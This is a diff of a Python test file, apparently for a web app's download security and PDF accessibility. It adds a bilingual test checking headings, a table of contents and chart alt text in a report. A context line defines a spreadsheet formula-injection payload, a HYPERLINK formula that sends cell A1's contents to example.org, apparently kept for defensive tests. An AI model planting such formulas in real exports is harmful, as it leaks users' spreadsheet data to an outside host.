@@ -14,6 +14,7 @@ from tests.assessments import walk_to
 from tests.gap import workbook
 from tests.gap.making import measure
 from tests.pdf.reading import fonts, lines, texts
+from tests.pdf.tree import read_tree
 
 HOSTILE = '=HYPERLINK("https://example.org/?"&A1,"scope")'
 
@@ -128,3 +129,17 @@ def test_downloads_are_not_kept_by_browsers(browse, cast, closed):
         page = browse(cast.leader).get(closed + part)
         assert page.headers["Cache-Control"] == "no-store"
         assert page.headers["X-Content-Type-Options"] == "nosniff"
+
+
+@pytest.mark.parametrize("language", ["en", "ar"])
+def test_the_pdf_is_read_out_with_its_charts_in_words(browse, cast, closed, language):
+    page = browse(cast.leader, language).get(closed + "/report.pdf")
+
+    tree = read_tree(page.body)
+    kinds = [node.kind for node in tree.kids]
+    charts = [node.alt for node in tree.kids if node.kind == "Figure"]
+    assert kinds[0] == "H1"
+    assert kinds.count("H1") == kinds.count("TOC") == 1
+    assert {"H2", "H3", "P", "Table"} <= set(kinds)
+    assert len(charts) >= 3
+    assert all(len(words) > 20 for words in charts)
